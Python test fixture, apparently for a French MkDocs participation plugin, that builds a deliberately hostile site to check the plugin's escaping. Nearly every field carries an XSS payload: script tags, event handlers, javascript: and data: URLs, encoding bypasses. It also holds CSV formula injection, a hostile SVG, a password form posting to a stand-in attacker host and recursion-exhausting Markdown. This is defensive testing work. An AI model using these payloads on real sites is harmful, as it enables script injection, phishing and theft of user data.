"""A toolbox written by an attacker: every card value, link field, body and file name carries a
payload. Each payload that would run calls ``alert('pwned-…')``, so that a dialog, a console
line or a page error names the payload that got through.

``DOCS`` is the docs folder, ``PLUGIN`` the plugin options (hostile interface words included),
``TEXTS`` and ``URLS`` the payloads tried in text and in link fields.
"""

from __future__ import annotations

from pathlib import Path

import yaml

from ..sites import Site, build_site

MARK = "pwned"

# Text payloads: titles, taglines, owners, list items, table rows, references, blocks, bodies.
TEXTS: tuple[str, ...] = (
    f"<script>alert('{MARK}-t1')</script>",
    f"<img src=x onerror=alert('{MARK}-t2')>",
    f"<svg/onload=alert('{MARK}-t3')>",
    f'" onmouseover="alert(\'{MARK}-t4\')" data-x="',
    f"' onfocus='alert(\"{MARK}-t5\")' autofocus x='",
    f"</script><script>alert('{MARK}-t6')</script>",
    f"<!--<script>alert('{MARK}-t7')</script>-->",
    f"</textarea></title></style><script>alert('{MARK}-t8')</script>",
    f"<a href=\"javascript:alert('{MARK}-t9')\">lien t9</a>",
    f"[lien t10](javascript:alert('{MARK}-t10'))",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">lien t11</a>',
    f"<a href=vbscript:msgbox('{MARK}-t12')>lien t12</a>",
    '<iframe src="https://evil.example.net/t13"></iframe>',
    '<b style="position:fixed;inset:0;background:red">gras t14</b>',
    "<style>body{background:url(https://evil.example.net/t15)}</style>",
    "![pixel t16](https://evil.example.net/t16.gif)",
    '<form action="https://evil.example.net/t17"><input name="motdepasse"></form>',
    f'<meta http-equiv="refresh" content="0;url=javascript:alert(\'{MARK}-t18\')">',
    '<base href="https://evil.example.net/t19/">',
    "{{ config.site_name }} {% raw %} t20",
    '=HYPERLINK("https://evil.example.net/t21";"t21")',
    "+cmd|' /C calc'!A0 t22",
    "@SUM(1+1) t23",
    "-2+3 t24",
    "]]></title><entry>t25</entry>",
    '"},{"slug":"t26","title":"',
    "\u2028\u2029\u202e t27",
    f"<math><mtext><table><mglyph><style><img src=x onerror=alert('{MARK}-t28')>",
    f"<details open ontoggle=alert('{MARK}-t29')>t29</details>",
    f"<object data=\"javascript:alert('{MARK}-t30')\"></object>",
    '<embed src="https://evil.example.net/t31">',
    f"<a href=\"  javascript:alert('{MARK}-t32')\">lien t32</a>",
    f"<a href=\"jav&#x09;ascript:alert('{MARK}-t33')\">lien t33</a>",
    f"<div data-participation-video=\"javascript:alert('{MARK}-t34')\">"
    '<button class="participation-video__play">t34</button></div>',
    f'<label data-participation-compare="t35" data-url="javascript:alert(\'{MARK}-t35\')">'
    "<input type=checkbox>t35</label>",
    "<a href=\"/\\evil.example.net/t36\">lien t36</a> <a href='\\\\evil.example.net/t36'>x</a>",
    '<img src="https://evil.example.net/t37.png" alt="t37">',
    f'<a href="#" id="participationCompare" name="document$">t38</a>'
    f"<svg><a xlink:href=\"javascript:alert('{MARK}-t38')\"><text>t38</text></a></svg>",
    "\x0b\x1b[2J\x1b]0;titre\x07 t39\x7f\ufffe",
)

# Link payloads, put in every link field of every kind of card, and in its image fields.
URLS: tuple[str, ...] = (
    f"javascript:alert('{MARK}-u1')",
    f"JaVaScRiPt:alert('{MARK}-u2')",
    f"  javascript:alert('{MARK}-u3')",
    f"java\tscript:alert('{MARK}-u4')",
    f"\x01javascript:alert('{MARK}-u5')",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    f"vbscript:msgbox('{MARK}-u8')",
    "//evil.example.net/u9",
    "\\\\evil.example.net/u10",
    "/\\evil.example.net/u11",
    f"https://ok.example.org/u12\" onmouseover=\"alert('{MARK}-u12')",
    f"javascript&colon;alert('{MARK}-u13')",
)

# Every field holding a link, by kind of card; details rows have links too.
LINK_FIELDS = {
    "methode": ("access_link", "contact"),
    "outil": ("access_link", "contact", "domain", "doc_tech", "demo_link", "lettre_engagement"),
    "exemple": ("link", "opendata"),
    "suivi": ("link",),
}
IMAGE_FIELDS = {
    "methode": ("img-bg", "logo", "vignette_video_demo"),
    "outil": ("img-bg", "logo", "vignette_video_demo"),
    "exemple": ("img-bg", "screenshot"),
    "suivi": ("img-bg", "screenshot"),
}
FOLDERS = {"methode": "methodes", "outil": "outils", "exemple": "exemples", "suivi": "suivis"}

# An SVG logo that runs a script when opened on its own (inert inside <img>).
HOSTILE_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="alert(\'pwned-s1\')">'
    "<title>Logo</title><script>alert('pwned-s2')</script>"
    '<rect width="10" height="10" fill="#123"/></svg>'
)
# Front-matter keys that themes read from a page's metadata, as an attacker would set them.
THEME_KEYS = {
    "template": "redirect.html",
    "location": f"\"]);alert('{MARK}-m1');//",
    "description": f"\"><script>alert('{MARK}-m2')</script>",
    "author": f"\"><script>alert('{MARK}-m3')</script>",
    "subtitle": f"<img src=x onerror=alert('{MARK}-m4')>",
    "status": f"\"><script>alert('{MARK}-m5')</script>",
    "icon": "../../../base",
    "hide": ["navigation", "toc", "footer"],
}
# Video addresses: a host that is not allowed, and an allowed host with a quote-breaking URL.
ALLOWED_VIDEO_HOST = "videos.example.org"
VIDEOS = (
    "https://evil.example.net/embed/v1",
    f"javascript:alert('{MARK}-v2')",
    f"https://{ALLOWED_VIDEO_HOST}/embed/v3?a=\"><script>alert('{MARK}-v3')</script>",
    'https://www.youtube.com/watch?v=abc"onload=alert(1)',
)
# Markdown that makes Python-Markdown recurse past Python's limit or run for minutes.
DEEP = ("- " * 3000 + "x", "[x" * 20_000, "*" * 5000 + "x" + "*" * 5000, "> " * 3000 + "x")
# Interface words set by the site, which reach the script's settings and the chooser's data.
LABELS = {
    "compare_bar": f"</script><!-- <script>alert('{MARK}-l1')</script> Méthodes à comparer",
    "compare_toggle": f"Comparer <img src=x onerror=alert('{MARK}-l2')>",
    "chooser_summary": f"</script><!--{{count}} méthodes <script>alert('{MARK}-l3')</script>",
}
PLUGIN = {
    "navigation": True,
    "video_hosts": [ALLOWED_VIDEO_HOST],
    "labels": LABELS,
    "folders": {folder: kind for kind, folder in FOLDERS.items()},
}
# A file name is a payload too: it reaches URLs, slugs and the exports.
FILE_NAME = "methodes/\"><img src=x onerror=alert('pwned-f1')>.md"

# The structured values that make hostile methods show in facets, the chooser and the table.
FACTS = {
    "niveau": "concerter",
    "format": "hybride",
    "echelle": ["locale"],
    "participants": {"min": 10, "max": 40},
    "duree": "une-journee",
    "cout": "faible",
}


def card(values: dict, body: str = "") -> str:
    """A card file whose front matter is ``values`` exactly, whatever characters they hold."""
    front = yaml.safe_dump(values, allow_unicode=True, sort_keys=False, width=10_000)
    return f"---\n{front}---\n\n{body}\n"


def body(payload: str) -> str:
    """A card body that carries ``payload`` as raw HTML, in Markdown, in a list and a table."""
    return (
        f"## Section\n\n{payload}\n\n- {payload}\n- [lien](javascript:alert('{MARK}-b1'))\n\n"
        f"| a | b |\n|---|:-:|\n| {payload.replace('|', '/')} | x |\n\n"
        f'<p onclick="alert(\'{MARK}-b2\')" style="position:fixed">paragraphe</p>\n\n'
        "!!! note\n    Une note.\n"
    )


def _text_cards() -> dict[str, str]:
    """One method per text payload, with the payload in its title and every text field."""
    docs = {}
    for number, payload in enumerate(TEXTS, 1):
        values = {
            "title": f"Méthode {number} {payload}",
            "tagline": payload,
            "owner": payload,
            "contract": payload,
            "img-alt": payload,
            **{name: [payload, f"item {number}"] for name in LIST_NAMES},
            "methodes_liees": [payload, f"texte-{number % len(TEXTS) + 1:02d}"],
            **FACTS,
            "ordre": number,
            "date": f"2024-01-{number % 28 + 1:02d}",
        }
        docs[f"methodes/texte-{number:02d}.md"] = card(values, body(payload))
    return docs


LIST_NAMES = ("priorites", "qualites", "atouts", "inconvenients")
OFFER_NAMES = ("clients", "feature_inclus", "feature_plusloin", "accompagnement_inclus")


def _texts_everywhere() -> dict[str, str]:
    """A tool, a case study and a follow-up holding every text payload in every text field."""
    rows = [{"name": text, "content": text} for text in TEXTS]
    return {
        "outils/texte.md": card(
            {
                "title": f"Outil {TEXTS[0]}",
                "tagline": TEXTS[1],
                "owner": TEXTS[2],
                "contract": TEXTS[3],
                "methodes": [*TEXTS[:3], "texte-01"],
                **{name: list(TEXTS) for name in OFFER_NAMES},
                "details_techniques": rows,
            },
            body(TEXTS[5]),
        ),
        "exemples/texte.md": card(
            {
                "title": f"Exemple {TEXTS[7]}",
                "description": TEXTS[8],
                "organisateur": TEXTS[9],
                "methodes": [*TEXTS[:3], "texte-01", "texte-02"],
                "outil": [TEXTS[4], "texte"],
                "parameters": rows,
                "date": "2024-03-01",
            },
            body(TEXTS[27]),
        ),
        f"{FOLDERS['suivi']}/texte.md": card(
            {
                "title": f"Suivi {TEXTS[6]}",
                "organisateur": TEXTS[10],
                "date-banniere": TEXTS[11],
                **{
                    name: "\n\n".join(TEXTS[i::5])
                    for i, name in enumerate(
                        ("presentation", "engagements", "dispositif", "resultats", "annexes")
                    )
                },
            },
            body(TEXTS[12]),
        ),
    }


def _link_cards() -> dict[str, str]:
    """For each kind and link payload, a card with the payload in every link and image field."""
    docs = {}
    for kind, fields in LINK_FIELDS.items():
        for number, url in enumerate(URLS, 1):
            values: dict = {"title": f"{kind} lien {number}", "tagline": "Liens piégés"}
            if kind in ("methode", "outil"):
                values["categorie"] = kind
            values.update({name: url for name in fields})
            values.update({name: url for name in IMAGE_FIELDS[kind]})
            if kind == "outil":
                values["details_techniques"] = [{"name": "Lien", "content": "x", "link": url}]
            if kind == "exemple":
                values["parameters"] = [{"name": "Lien", "content": "x", "link": url}]
            docs[f"{FOLDERS[kind]}/lien-{number:02d}.md"] = card(values)
    return docs


def _special_cards() -> dict[str, str | bytes]:
    """The SVG logo, theme keys in front matter, video addresses, and a hostile file name."""
    docs: dict[str, str | bytes] = {
        "images/hostile.svg": HOSTILE_SVG.encode(),
        "methodes/svg.md": card(
            {"title": "Logo SVG", "tagline": "x", "logo": "hostile.svg", "img-bg": "hostile.svg"}
        ),
        "methodes/meta.md": card({"title": "Clés de thème", "tagline": "x", **THEME_KEYS}),
        FILE_NAME: card({"title": "Nom de fichier", "tagline": "x"}),
    }
    for number, text in enumerate(DEEP, 1):
        docs[f"methodes/profond-{number}.md"] = card(
            {"title": f"Profond {number}", "tagline": text, "atouts": [text]}, text
        )
    docs[f"{FOLDERS['suivi']}/profond.md"] = card({"title": "Suivi profond", "annexes": DEEP[0]})
    for number, url in enumerate(VIDEOS, 1):
        docs[f"outils/video-{number}.md"] = card(
            {"title": f"Vidéo {number}", "tagline": "x", "url_video_demo": url}
        )
    return docs


DOCS: dict[str, str | bytes] = {
    "index.md": "# Boîte piégée\n\nToutes les fiches de ce site sont hostiles.\n",
    **_text_cards(),
    **_texts_everywhere(),
    **_link_cards(),
    **_special_cards(),
}
# Payloads tried: texts, links in each kind, theme keys, videos, labels, the SVG and file name.
PAYLOAD_COUNT = (
    len(TEXTS)
    + len(URLS) * len(LINK_FIELDS)
    + len(THEME_KEYS)
    + len(VIDEOS)
    + len(LABELS)
    + len(DEEP)
    + 2
)


def build(root: Path) -> Site:
    """The hostile toolbox built under ``root``, without --strict (every card is reported)."""
    return build_site(
        root,
        DOCS,
        strict=False,
        plugin=PLUGIN,
        plugins=["search", "participation"],
        theme={"name": "material", "language": "fr", "font": False},
    )
